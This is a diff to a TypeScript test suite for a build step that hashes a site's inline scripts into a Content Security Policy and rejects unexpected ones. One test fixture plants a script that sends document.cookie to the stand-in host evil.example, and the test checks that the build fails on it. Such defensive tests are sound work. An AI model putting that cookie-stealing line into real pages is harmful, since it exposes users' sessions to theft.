@@ -1,10 +1,26 @@
-import {test} from 'node:test';
+import {after, test} from 'node:test';
 import assert from 'node:assert/strict';
-import {createHash} from 'node:crypto';
 import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs';
+import {tmpdir} from 'node:os';
+import {join} from 'node:path';
+import {
+  expectedInlineScripts,
+  isExpectedInlineScript,
+  type InlineScript,
+} from './inline-scripts';
+import {
+  CSP_INCLUDE,
   contentSecurityPolicy,
   inlineEventHandlers,
   inlineScripts,
+  postbuild,
   scriptHash,
 } from './postbuild';
 
@@ -28,13 +44,20 @@ test('inlineScripts keeps only the inline scripts a browser runs', () => {
   ]);
 });
 
-test('scriptHash is the CSP sha256 source of the exact text', () => {
-  const expected = createHash('sha256').update('colour()').digest('base64');
-  assert.equal(scriptHash('colour()'), `'sha256-${expected}'`);
-  // A known vector: sha256("") in base64.
+// Expected values computed outside this code base:
+//   printf '%s' "<text>" | openssl dgst -sha256 -binary | base64
+test('scriptHash is the CSP sha256 source of the exact UTF-8 text (known vectors)', () => {
   assert.equal(
     scriptHash(''),
     "'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
+  );
+  assert.equal(
+    scriptHash('abc'),
+    "'sha256-ungWv48Bz+pBQUDeXa4iI7ADYaOWF3qctBD/YfIAFa0='",
+  );
+  assert.equal(
+    scriptHash('document.documentElement.dataset.mode="暗"'),
+    "'sha256-irXXOpyezvv3Mskz2Xs87tWV+WjNPqOiEfVRX1wLzP0='",
   );
 });
 
@@ -77,4 +100,108 @@ test('an ALGOLIA_APP_ID that is not alphanumeric is refused', () => {
       }),
     /alphanumeric/,
   );
+});
+
+const temps: string[] = [];
+after(() => {
+  for (const dir of temps) rmSync(dir, {recursive: true, force: true});
+});
+
+/** A build directory with these pages (path → HTML). */
+function fixtureBuild(pages: Record<string, string>): string {
+  const dir = mkdtempSync(join(tmpdir(), 'paynow-postbuild-'));
+  temps.push(dir);
+  for (const [path, html] of Object.entries(pages)) {
+    mkdirSync(join(dir, path, '..'), {recursive: true});
+    writeFileSync(join(dir, path), html);
+  }
+  return dir;
+}
+
+const EXPECTED: InlineScript[] = [
+  {source: 'test', reason: 'a known script', text: 'colour()'},
+  {source: 'test', reason: 'a known call', text: /^boundary\(\d+\)$/},
+];
+
+test('postbuild allows the expected inline scripts by hash', () => {
+  const dir = fixtureBuild({
+    'index.html': '<script>colour()</script><script>boundary(1)</script>',
+    'docs/a/index.html':
+      '<script>colour()</script><script>boundary(22)</script>',
+  });
+  const {csp, inlineScripts: count} = postbuild(dir, {
+    expectedScripts: EXPECTED,
+  });
+  assert.equal(count, 3);
+  // The hashes of colour(), boundary(1) and boundary(22), from openssl.
+  assert.match(
+    csp,
+    /script-src 'self' 'sha256-[^']+' 'sha256-[^']+' 'sha256-[^']+';/,
+  );
+  for (const hash of [
+    'sha256-gDlYylS1q5SVwYx46jV+2iTGfzgrJf+8Ti+HDdFXYBQ=',
+    'sha256-5YesUCUMiBxLVrAfZpKoUROvz+bdmlzmMZFfBjrWWpc=',
+    'sha256-T8wHDshfeTweeZj6GUYpUriBrUWb/GfZt76LrWvEHkQ=',
+  ]) {
+    assert.ok(csp.includes(`'${hash}'`), hash);
+  }
+  assert.match(readFileSync(join(dir, CSP_INCLUDE), 'utf8'), /add_header/);
+});
+
+test('postbuild fails closed on any other inline script, naming the file', () => {
+  const dir = fixtureBuild({
+    'index.html': '<script>colour()</script>',
+    'docs/planted/index.html':
+      '<script>colour()</script><script>fetch("//evil.example/?"+document.cookie)</script>',
+    'docs/ok/index.html': '<script>boundary(1);alert(1)</script>',
+  });
+  assert.throws(
+    () => postbuild(dir, {expectedScripts: EXPECTED}),
+    (error: Error) => {
+      assert.match(
+        error.message,
+        /docs\/planted\/index\.html: unexpected inline script 'sha256-[^']+': fetch\("\/\/evil\.example/,
+      );
+      // A pattern matches the whole text, not a prefix.
+      assert.match(
+        error.message,
+        /docs\/ok\/index\.html: unexpected inline script/,
+      );
+      assert.doesNotMatch(error.message, /^index\.html/m);
+      assert.match(error.message, /deploy\/inline-scripts\.ts/);
+      return true;
+    },
+  );
+  assert.equal(existsSync(join(dir, CSP_INCLUDE)), false);
+});
+
+test('the registry refuses a pattern that is not anchored at both ends', () => {
+  const dir = fixtureBuild({'index.html': '<script>x()</script>'});
+  assert.throws(
+    () =>
+      postbuild(dir, {
+        expectedScripts: [{source: 'test', reason: 'loose', text: /x\(\)/}],
+      }),
+    /must match the whole text/,
+  );
+});
+
+test('the registry expects the base-URL banner for the configured base path only', () => {
+  // plugins/fast-load's banner check as the minifier writes it, for /guides/.
+  const built = readFileSync(
+    join(import.meta.dirname, 'fixtures/base-url-banner.guides.txt'),
+    'utf8',
+  );
+  const accepts = (base: string, script: string) =>
+    isExpectedInlineScript(script, expectedInlineScripts(base));
+  assert.ok(accepts('/guides/', built));
+  assert.ok(!accepts('/paynow-guideline/', built));
+  // The minifier's local names may differ from build to build…
+  assert.ok(accepts('/guides/', built.replace(/\bn\b/g, 'z')));
+  // …but each stays one name, and nothing can be added.
+  assert.ok(
+    !accepts('/guides/', built.replace('n.appendChild(o)', 'q.appendChild(o)')),
+  );
+  assert.ok(!accepts('/guides/', `${built};fetch("/x")`));
+  assert.throws(() => expectedInlineScripts('guides'), /BASE_URL/);
 });
